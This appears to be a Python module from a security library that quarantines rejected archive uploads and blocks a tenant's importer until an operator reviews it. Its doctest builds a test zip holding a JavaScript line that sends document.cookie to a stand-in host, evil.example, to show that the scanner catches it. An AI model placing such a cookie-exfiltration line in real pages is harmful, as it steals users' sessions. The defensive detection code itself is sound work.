"""Quarantine for rejected uploads, and the per-tenant importer block (a kill switch).

:class:`ArchiveGuard` ties inspection to consequences: a tenant whose importer is blocked
is refused at once (``MITIGATE.ARCHIVE.BLOCKED``, "blocked pending security review");
an archive that fails inspection is moved, byte for byte, into the quarantine with a
record of why (:class:`~mitigate.ArchiveQuarantined`), the tenant's importer is blocked
until an operator clears it (:class:`~mitigate.ImporterBlocked`, a security alert), and
the caller gets :class:`~mitigate.guard.errors.ArchiveRejectedError`.

>>> import io, tempfile, zipfile, pathlib
>>> from mitigate.clock import VirtualClock
>>> work = pathlib.Path(tempfile.mkdtemp())
>>> upload = work / "course.zip"
>>> with zipfile.ZipFile(upload, "w") as z:
...     z.writestr("js/app.js", "fetch('https://evil.example/steal?c=' + document.cookie)")
>>> guard = ArchiveGuard(quarantine=Quarantine(work / "quarantine", clock=VirtualClock()))
>>> try:
...     guard.check(upload, tenant="acme")
... except ArchiveRejectedError as err:
...     print(err.code, err.report.reason)
MITIGATE.ARCHIVE.SCRIPT_NETWORK script_network
>>> upload.exists(), guard.gate.is_blocked("acme")
(False, True)

.. versionadded:: 0.1
"""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import threading
import uuid
from collections.abc import Iterable, Mapping
from dataclasses import asdict, dataclass
from pathlib import Path

from mitigate.clock import Clock, default_clock
from mitigate.guard.archive import ArchiveLimits, InspectionReport, inspect_archive
from mitigate.guard.errors import ArchiveRejectedError, ImporterBlockedError
from mitigate.observe.events import ArchiveQuarantined, ImporterBlocked
from mitigate.observe.observers import Observer, Observers

__all__ = ["ArchiveGuard", "ImporterGate", "Quarantine", "QuarantineRecord"]


@dataclass(frozen=True, slots=True)
class QuarantineRecord:
    """One quarantined archive: where it is, what it hashes to, and why."""

    id: str
    tenant: str
    name: str
    path: str
    sha256: str
    size: int
    reason: str
    findings: tuple[tuple[str, str, str], ...]
    at: float


class Quarantine:
    """A directory that holds rejected archives unchanged, each with a JSON record."""

    def __init__(
        self,
        directory: str | Path,
        *,
        clock: Clock | None = None,
        observers: Iterable[Observer] = (),
        target: str = "archive.quarantine",
    ) -> None:
        self.directory = Path(directory)
        self.directory.mkdir(parents=True, exist_ok=True)
        self.clock = clock or default_clock()
        self.observers = observers if isinstance(observers, Observers) else Observers(observers)
        self.target = target

    def hold(
        self, source: str | Path, *, tenant: str, report: InspectionReport, name: str = ""
    ) -> QuarantineRecord:
        """Move ``source`` into quarantine (same bytes, digest recorded) and record why."""
        source = Path(source)
        qid = uuid.uuid4().hex
        dest = self.directory / f"{qid}.zip"
        # Same filesystem: an atomic rename; otherwise a copy, then the upload is removed.
        try:
            os.replace(source, dest)
        except OSError:
            shutil.copyfile(source, dest)
            source.unlink()
        digest = _sha256_file(dest)
        record = QuarantineRecord(
            id=qid,
            tenant=tenant,
            name=name or source.name,
            path=str(dest),
            sha256=digest,
            size=dest.stat().st_size,
            reason=report.reason or "",
            findings=tuple((f.reason.value, f.entry, f.detail) for f in report.findings),
            at=self.clock.wall(),
        )
        tmp = self.directory / f"{qid}.json.tmp"
        tmp.write_text(json.dumps(asdict(record), indent=2))
        os.replace(tmp, self.directory / f"{qid}.json")
        if self.observers:
            first = report.findings[0] if report.findings else None
            self.observers.emit(
                ArchiveQuarantined(
                    target=self.target,
                    at=self.clock.now(),
                    tenant=tenant,
                    archive=record.name,
                    reason=record.reason,
                    entry=first.entry if first else "",
                    sha256=digest,
                )
            )
        return record

    def records(self, tenant: str | None = None) -> list[QuarantineRecord]:
        out = []
        for path in sorted(self.directory.glob("*.json")):
            data = json.loads(path.read_text())
            data["findings"] = tuple(tuple(f) for f in data["findings"])
            record = QuarantineRecord(**data)
            if tenant is None or record.tenant == tenant:
                out.append(record)
        return out


class ImporterGate:
    """Which tenants' importers are blocked pending security review."""

    def __init__(
        self,
        *,
        clock: Clock | None = None,
        observers: Iterable[Observer] = (),
        target: str = "archive.import",
    ) -> None:
        self.clock = clock or default_clock()
        self.observers = observers if isinstance(observers, Observers) else Observers(observers)
        self.target = target
        self._blocked: dict[str, str] = {}
        self._lock = threading.Lock()

    def block(self, tenant: str, reason: str) -> None:
        with self._lock:
            fresh = tenant not in self._blocked
            self._blocked[tenant] = reason
        if fresh and self.observers:
            self.observers.emit(
                ImporterBlocked(
                    target=self.target, at=self.clock.now(), tenant=tenant, reason=reason
                )
            )

    def clear(self, tenant: str) -> None:
        """An operator reviewed the quarantine: let the tenant import again."""
        with self._lock:
            self._blocked.pop(tenant, None)

    def is_blocked(self, tenant: str) -> bool:
        return tenant in self._blocked

    def blocked(self) -> dict[str, str]:
        return dict(self._blocked)

    def require_open(self, tenant: str) -> None:
        reason = self._blocked.get(tenant)
        if reason is not None:
            raise ImporterBlockedError(
                f"tenant {tenant}", f"importer blocked after a quarantined upload ({reason})"
            )


class ArchiveGuard:
    """Inspect uploads per tenant limits; quarantine and block on failure."""

    def __init__(
        self,
        *,
        quarantine: Quarantine,
        gate: ImporterGate | None = None,
        limits: ArchiveLimits | None = None,
        tenant_limits: Mapping[str, ArchiveLimits] | None = None,
        block_on_quarantine: bool = True,
    ) -> None:
        self.quarantine = quarantine
        self.gate = gate or ImporterGate(clock=quarantine.clock, observers=quarantine.observers)
        self.limits = limits or ArchiveLimits()
        self.tenant_limits = dict(tenant_limits or {})
        self.block_on_quarantine = block_on_quarantine

    def limits_for(self, tenant: str) -> ArchiveLimits:
        return self.tenant_limits.get(tenant, self.limits)

    def check(self, path: str | Path, *, tenant: str, name: str = "") -> InspectionReport:
        """Inspect the upload at ``path``; return the report when it is clean.

        Raises ImporterBlockedError before reading anything when the tenant is blocked,
        and ArchiveRejectedError (after quarantining the file) when inspection fails.
        """
        self.gate.require_open(tenant)
        report = inspect_archive(path, self.limits_for(tenant))
        if report.ok:
            return report
        record = self.quarantine.hold(path, tenant=tenant, report=report, name=name)
        if self.block_on_quarantine:
            self.gate.block(tenant, report.reason or "quarantined")
        first = report.findings[0]
        raise ArchiveRejectedError(
            f"tenant {tenant}",
            f"{record.name}: {first.reason.value} at {first.entry or 'the archive'!r} "
            f"({first.detail}); quarantined as {record.id}",
            report=report,
            quarantine_id=record.id,
            code=first.reason.code,
        )


def _sha256_file(path: Path) -> str:
    h = hashlib.sha256()
    with open(path, "rb") as f:
        while block := f.read(1 << 20):
            h.update(block)
    return h.hexdigest()
